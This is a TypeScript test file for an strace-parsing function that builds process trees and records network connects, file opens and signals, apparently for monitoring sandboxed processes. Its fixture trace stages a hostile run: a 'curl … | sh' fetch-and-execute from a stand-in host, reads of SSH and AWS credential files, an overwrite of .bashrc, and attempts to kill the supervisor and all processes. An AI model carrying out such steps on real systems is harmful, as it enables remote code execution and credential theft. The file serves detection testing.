import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseTrace } from './trace.ts';

const TRACE = [
  '10    12:00:00.000001 execve("/usr/bin/setpriv", ["setpriv", "--", "sh"], 0x7ffd /* 30 vars */) = 0',
  '10    12:00:00.000002 execve("/bin/sh", ["/bin/sh", "-c", "curl -s http://x.example.invalid/a | sh"], 0x1 /* 30 vars */) = 0',
  '10    12:00:00.000003 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 11',
  '11    12:00:00.000004 execve("/usr/bin/curl", ["curl", "-s", "http://x.example.invalid/a"], 0x2 /* 30 vars */ <unfinished ...>',
  '10    12:00:00.000005 wait4(-1 <unfinished ...>',
  '11    12:00:00.000006 <... execve resumed>) = 0',
  '11    12:00:00.000007 connect(5, {sa_family=AF_INET, sin_port=htons(1224), sin_addr=inet_addr("203.0.113.10")}, 16) = -1 ENETUNREACH (Network is unreachable)',
  '11    12:00:00.000008 connect(6, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ENETUNREACH (Network is unreachable)',
  '11    12:00:00.000009 connect(7, {sa_family=AF_UNIX, sun_path="/var/run/nscd/socket"}, 110) = -1 ENOENT (No such file or directory)',
  '11    12:00:00.000010 openat(AT_FDCWD, "/home/dev/.ssh/id_ed25519", O_RDONLY|O_CLOEXEC) = 3',
  '11    12:00:00.000011 openat(AT_FDCWD, "out\\"q\\\\x\\n.txt", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 4',
  '11    12:00:00.000012 chdir("/tmp") = 0',
  '11    12:00:00.000013 openat(AT_FDCWD, "rel", O_RDONLY) = -1 ENOENT (No such file or directory)',
  '11    12:00:00.000014 rename("/home/dev/a", "/home/dev/.bashrc") = 0',
  '11    12:00:00.000015 clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, exit_signal=0, stack=0x7f}, 88) = 12',
  '12    12:00:00.000016 openat(AT_FDCWD, "/home/dev/.aws/credentials", O_RDONLY) = 5',
  '11    12:00:00.000017 --- SIGPIPE {si_signo=SIGPIPE} ---',
  '11    12:00:00.000018 +++ killed by SIGPIPE +++',
  '11    12:00:00.0000175 kill(1, SIGKILL) = -1 EPERM (Operation not permitted)',
  '11    12:00:00.0000176 kill(11, SIG_0) = 0',
  '11    12:00:00.0000177 kill(1, SIG_0) = -1 EPERM (Operation not permitted)',
  '11    12:00:00.0000178 kill(-1, SIGKILL) = 0',
  'garbage line',
  '10    12:00:00.000019 +++ exited with 0 +++',
].join('\n');

describe('parseTrace', () => {
  const t = parseTrace(TRACE, '/home/dev/projects/repo');
  it('builds the process tree with argv and exit status', () => {
    assert.deepEqual(
      t.processes.get(10)?.execs.map(e => e.argv[0]),
      ['setpriv', '/bin/sh'],
    );
    assert.equal(t.processes.get(11)?.ppid, 10);
    assert.deepEqual(t.processes.get(11)?.execs[0]?.argv, ['curl', '-s', 'http://x.example.invalid/a']);
    assert.equal(t.processes.get(11)?.killedBy, 'SIGPIPE');
    assert.equal(t.processes.get(10)?.exit, 0);
    assert.equal(t.processes.get(12)?.thread, true);
  });
  it('records IPv4 and IPv6 connects with their errors, not unix sockets', () => {
    assert.deepEqual(
      t.connects.map(c => [c.address, c.port, c.ok, c.errno]),
      [
        ['203.0.113.10', 1224, false, 'ENETUNREACH'],
        ['2001:db8::1', 443, false, 'ENETUNREACH'],
      ],
    );
  });
  it('classifies opens, resolves relative paths against the cwd, decodes escapes, attributes thread calls to the process', () => {
    const byPath = new Map(t.files.map(f => [f.path, f]));
    assert.equal(byPath.get('/home/dev/.ssh/id_ed25519')?.op, 'read');
    assert.equal(byPath.get('/home/dev/projects/repo/out"q\\x\n.txt')?.op, 'create');
    assert.equal(byPath.get('/tmp/rel')?.errno, 'ENOENT');
    assert.equal(byPath.get('/home/dev/.bashrc')?.from, '/home/dev/a');
    assert.equal(byPath.get('/home/dev/.aws/credentials')?.pid, 11);
    assert.equal(t.skipped, 1);
  });
  it('records the signals the kernel refused (a try at killing the supervisor) and signals to every process, not probes or its own', () => {
    assert.deepEqual(
      t.signals.map(x => [x.pid, x.target, x.signal, x.ok]),
      [
        [11, 1, 'SIGKILL', false],
        [11, -1, 'SIGKILL', true],
      ],
    );
  });
  it('never throws on truncated or hostile input', () => {
    const bad = parseTrace('1 00:00:00.1 execve("/x", ["a", "b"...\n2 00:00:00.2 openat(AT_FDCWD, "\\', '/');
    assert.equal(bad.files.length, 0);
    assert.ok(bad.skipped >= 1);
  });
});
